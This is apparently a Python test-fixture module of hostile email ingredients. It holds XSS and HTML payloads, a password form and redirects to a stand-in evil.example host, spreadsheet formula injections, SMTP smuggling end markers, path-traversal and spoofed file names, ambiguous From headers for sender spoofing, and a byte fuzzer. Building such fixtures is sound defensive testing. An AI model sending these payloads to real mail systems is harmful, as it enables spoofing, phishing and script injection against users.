"""The pieces that hostile mail is made of: written by us, aimed at hosts that do not exist."""

from __future__ import annotations

import random

# HTML that does something where it is not made harmless.
SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='jav&#x09;ascript:alert(1)'>open</a>",
    "<a href='//evil.example/x'>open</a><base href='https://evil.example/'>",
    "<form action='https://evil.example/login'><input name=password type=password></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.example/x.css';</style>"
    "<p style='background:url(//evil.example)'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><p>hidden</template><div style='display:none'>hidden words</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<input type=image src=x formaction='javascript:alert(1)'>",
    "<xmp><p title='</xmp><img src onerror=alert(1)>'></xmp>",
)
# Texts that a spreadsheet takes for a formula.
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example","x")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "＝1",
)
# What some servers take for the end of a mail; only CR LF . CR LF is one.
SMUGGLED_ENDS = (
    b"\n.\n", b"\n.\r", b"\r.\n", b"\r.\r", b"\n.\r\n", b"\r.\r\n", b"\r\n\x00.\r\n",
    b"\r\n.\r\r\n", b"\r\r\n.\r\r\n",
)  # fmt: skip
# Names that lie, climb or break out.
FILE_NAMES = (
    "invoice_exe\u202efdp.exe",
    "report.pdf.js",
    "../../etc/passwd",
    "con.txt\x00.exe",
    "a" * 500 + ".pdf",
    'x"; filename="y.exe',
    "<img src=x onerror=alert(1)>.png",
    "=cmd.csv",
    "two\r\nlines.pdf",
)
# Lines in the place of From that mail programs are known to read differently.
AMBIGUOUS_FROM: tuple[tuple[bytes, ...], ...] = (
    (b"From: a@sender.example", b"From: b@evil.example"),
    (b"From: a@sender.example, b@evil.example",),
    (b"From : b@evil.example", b"From: a@sender.example"),
    (b"From: a@sender.example)b@evil.example",),
    (b"From: <a@sender.example>, <b@evil.example>",),
    (b"From: <a@sender.example><b@evil.example>",),
    (b"From: a@sender.example <b@evil.example>",),
    (b"From: <@x.example,@y.example:a@sender.example>",),
    (b"From: <a@sender.example\x00@evil.example>",),
    (b"From: a@sender.example\x00b@evil.example",),
    (b"From: =?utf-8?B?PGFAc2VuZGVyLmV4YW1wbGU+LCA=?= <b@evil.example>",),
    (b"From: =?utf-8?B?PGFAc2VuZGVyLmV4YW1wbGU+?=",),
    (b"From: a@sender.example (b@evil.example)",),
    (b'From: "a@sender.example"@evil.example',),
    (b"From: group: a@sender.example, b@evil.example;",),
    (b"From: a@sender.example\r\r\nFrom: b@evil.example",),
    (b"From: a@sender.example\rFrom: b@evil.example",),
    (b"From: (a@sender.example",),
    (b"From: <a@sender.example",),
    (b"From\x00: b@evil.example", b"From: a@sender.example"),
    (b"From: <b@evil.example",),
    (b"From: Name <>",),
    (b"From: a@sender.example, \\<b@evil.example>",),
)


def damaged(raw: bytes, chooser: random.Random) -> bytes:
    """Some bytes changed, cut out, doubled or swapped."""
    data = bytearray(raw)
    for _ in range(chooser.randrange(1, 12)):
        if not data:
            break
        at = chooser.randrange(len(data))
        length = chooser.randrange(1, 40)
        match chooser.randrange(4):
            case 0:
                data[at] = chooser.randrange(256)
            case 1:
                del data[at : at + length]
            case 2:
                data[at:at] = data[at : at + length]
            case _:
                data[at:at] = chooser.choice((b"\r\n\r\n", b"\x00", b"--", b"\n", b"=?", b"\xff"))
    return bytes(data)
